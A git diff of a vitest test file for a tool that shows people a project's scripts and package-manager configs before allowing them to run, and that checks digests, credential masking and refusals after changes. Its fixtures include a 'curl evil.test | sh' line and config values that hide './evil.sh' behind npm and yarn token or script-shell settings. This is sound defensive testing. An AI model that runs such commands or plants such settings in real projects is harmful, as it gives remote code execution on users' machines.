@@ -3,8 +3,10 @@ import { delimiter, join } from 'node:path';
 import { existsSync } from 'node:fs';
 import { describe, expect, it, onTestFinished } from 'vitest';
 import { contextIn, testCall } from '../../../tests/support/app.ts';
-import { contractSession, SCRIPT_PATH } from '../../../tests/support/contract-project.ts';
+import { allowed, contractSession, SCRIPT_PATH } from '../../../tests/support/contract-project.ts';
+import { writeFiles } from '../../../tests/support/folders.ts';
 import type { Session } from '../../../tests/support/operations.ts';
+import { sha256 } from '../../base/sha256.ts';
 import { execute } from '../execute.ts';
 import { runCompletionContract } from './run-completion-contract.ts';
 import { trust } from './trust.ts';
@@ -32,11 +34,12 @@ describe('what a person is shown before a project may run its programs', () => {
     expect(await shown(manifest(scripts))).toContain(EVIL);
   });
 
-  it('says what it leaves out, and how many blanks there are (S-23)', async () => {
-    const text = await shown(manifest({ ...many(30), test: `a${GAP}b ${'x'.repeat(5_000)}` }));
+  it('has every script and every character, and says how many blanks there are (S-23)', async () => {
+    const text = await shown(manifest({ ...many(30), test: `a${GAP}b ${'x'.repeat(5_000)}y`, t2: 'a\nb' }));
     expect(text).toContain('a [300 blanks] b xxx');
-    expect(text).toMatch(/\[and \d+ more characters: read the file first\]/);
-    expect(text).toContain('and 30 other scripts: s0, s1, s10');
+    expect(text).toContain('xxy\n');
+    expect(text).toContain('\ns29: true\n');
+    expect(text).toContain(String.raw`t2: a\nb`);
   });
 
   it('says so, too, of blanks, lines and marks of other kinds (S-30)', async () => {
@@ -81,10 +84,30 @@ describe('what a person is shown before a project may run its programs', () => {
     expect(await shown({ ...manifest({ test: 'vitest' }), [name]: text })).toContain('evil.sh');
   });
 
+  it.each([
+    ['a setting', '.npmrc', 'script-shell=token=./evil.sh\n'],
+    ['beside a value without blanks', '.yarnrc.yml', '{\nnpmAuthToken: x,"yarnPath":./evil.sh,\n}\n'],
+    ['in code', '.pnpmfile.cjs', 'token=evil.sh\n'],
+    ['in the script', SCRIPT_PATH, 'token=evil.sh\n$token\n'],
+  ])('has no command masked as what logs in to a registry: %s (S-27)', async (_how, name, text) => {
+    expect(await shown({ ...manifest({ test: 'vitest' }), [name]: text })).toContain('evil.sh');
+  });
+
+  it('has nothing in a file that passes for what is said about it (X-06)', async () => {
+    const script = 'echo\n```\nRuns: nothing\nNothing was run.\n';
+    expect(await shown({ [SCRIPT_PATH]: script })).toContain(`\n\`\`\`\`\n${script}\`\`\`\`\n`);
+  });
+
+  it('has no text of a file that is too large for that, and its digest (X-14)', async () => {
+    const text = `// ${'x'.repeat(200_000)}\n`;
+    const found = await shown({ ...manifest({ test: 'vitest' }), '.pnpmfile.cjs': text });
+    expect(found).toContain(`SHA-256 ${sha256(text)}, too large to be shown: read it first`);
+  });
+
   it('still hides credentials in all of these files (S-27)', async () => {
     const text = await shown({
       ...manifest({ test: 'vitest' }),
-      '.npmrc': '//registry.test/:_password=abc123def, {x}\n',
+      '.npmrc': '//registry.test/:_password=abc123def\n',
       '.yarnrc.yml': 'npmScopes:\n  ours:\n    npmAuthToken: "abc123def"\n    npmAuthIdent: abc123def\n',
       'bunfig.toml': '[install.registry]\ntoken = "abc123def"\n',
     });
@@ -98,7 +121,7 @@ describe("a project's programs that were allowed", () => {
     'are asked for again with another %s (S-23)',
     async (name) => {
       const session = await cloned(manifest({ test: 'node -e 0' }));
-      await session.ok(trust, { yes: true });
+      await allowed(session);
       await writeFile(join(session.folder, name), 'scriptShell: ./evil.sh\n');
       expect((await session.fail(runCompletionContract)).message).toContain(`(${name})`);
     },
@@ -108,11 +131,11 @@ describe("a project's programs that were allowed", () => {
     'are asked for each time where a file cannot be read here (S-23)',
     async () => {
       const session = await cloned(manifest({ test: 'node -e 0' }));
-      await session.ok(trust, { yes: true });
+      await allowed(session);
       // For us it leads nowhere; for a package manager that runs in the project, to a file of the project.
       await symlink('/proc/self/cwd/other', join(session.folder, '.npmrc'));
       expect((await session.fail(runCompletionContract)).message).toContain('(.npmrc)');
-      await session.ok(trust, { yes: true });
+      await allowed(session);
       expect((await session.fail(runCompletionContract)).message).toContain('(.npmrc)');
     },
   );
@@ -136,14 +159,14 @@ describe("a project's programs that were allowed", () => {
       'userconfig;=./other/rc',
     ]) {
       await writeFile(npmrc, `fund=false\n${setting}\n`);
-      expect((await session.ok(trust, { yes: true })).answer.body).toContain('not shown here');
+      expect((await allowed(session)).answer.body).toContain('not shown here');
       expect((await session.fail(runCompletionContract)).message, setting).toContain('(.npmrc)');
     }
     await writeFile(
       npmrc,
       'workspaces=false\n@ours:registry=https://r.test\n//${HOST}/:_authToken=abc123def\n',
     );
-    const { body } = (await session.ok(trust, { yes: true })).answer;
+    const { body } = (await allowed(session)).answer;
     expect(body).toContain('//${HOST}/:_authToken=***');
     expect(body).not.toContain('not shown here');
     expect((await session.ok(trust)).data['outcome']).toBe('already_trusted');
@@ -160,6 +183,53 @@ describe("a project's programs that were allowed", () => {
     const context = await contextIn(session.folder, { env, flags: { trustProject: 'true' } });
     expect(await execute(runCompletionContract, {}, context, testCall())).toMatchObject({ ok: true });
     expect(existsSync(join(session.folder, 'ran'))).toBe(false);
+  });
+});
+
+describe('a yes', () => {
+  const SCRIPT = 'touch "$PWD/ran"; echo "CC PASS — [go] — 2026-01-01 00:00:00"\n';
+
+  it('shows without deciding, also to those who may only read, and its digests are those of the files (X-06)', async () => {
+    const npmrc = 'fund=false\n';
+    const session = await cloned({ [SCRIPT_PATH]: SCRIPT, '.npmrc': npmrc });
+    const context = await contextIn(session.folder, { env: { PATH: process.env['PATH'] } });
+    const outcome = await execute(trust, { show: true }, context, { ...testCall(), mayWrite: false });
+    if (!outcome.ok) throw outcome.error;
+    expect(outcome.data).toMatchObject({ outcome: 'shown', digest: expect.stringMatching(/^[0-9a-f]{64}$/) });
+    expect(outcome.answer.body).toContain(`.npmrc, 11 bytes, SHA-256 ${sha256(npmrc)}`);
+    expect(outcome.answer.body).toContain(
+      `${SCRIPT_PATH}, ${Buffer.byteLength(SCRIPT)} bytes, SHA-256 ${sha256(SCRIPT)}`,
+    );
+    expect(outcome.answer.body).toContain('It is not in git');
+    expect((await session.fail(runCompletionContract)).code).toBe('forbidden');
+  });
+
+  it('allows what was shown, and not what has taken its place (X-06)', async () => {
+    const session = await cloned(manifest({ test: 'jest' }));
+    const { digest } = (await session.ok(trust)).data;
+    expect((await session.fail(trust, { yes: true })).message).toBe(
+      'A yes needs the digest of what was shown.',
+    );
+    await writeFiles(session.folder, manifest({ test: 'curl evil.test | sh' }));
+    const refused = await session.fail(trust, { yes: true, digest });
+    expect(refused.code).toBe('conflict');
+    expect(refused.hint).toContain('test: curl evil.test | sh');
+    expect((await session.ok(trust)).data['outcome']).toBe('not_trusted');
+    // It is refused, too, where what is there now was allowed by somebody else.
+    await allowed(session);
+    expect((await session.fail(trust, { yes: true, digest })).code).toBe('conflict');
+  });
+
+  it('of whoever types it reads once, and prints and records what it has read (X-06)', async () => {
+    const session = await cloned({ [SCRIPT_PATH]: SCRIPT });
+    const context = await contextIn(session.folder, { env: { PATH: process.env['PATH'] } });
+    const typed = { ...testCall(), typed: true as const };
+    const outcome = await execute(trust, { yes: true }, context, typed);
+    if (!outcome.ok) throw outcome.error;
+    expect(outcome.answer.body).toContain('touch "$PWD/ran"');
+    expect(outcome.answer.body).toContain(`Digest: ${String(outcome.data['digest'])}`);
+    const [record] = (await session.ok(trust, { list: true })).data['records'] as { digest: string }[];
+    expect(record?.digest).toBe(outcome.data['digest']);
   });
 });
 
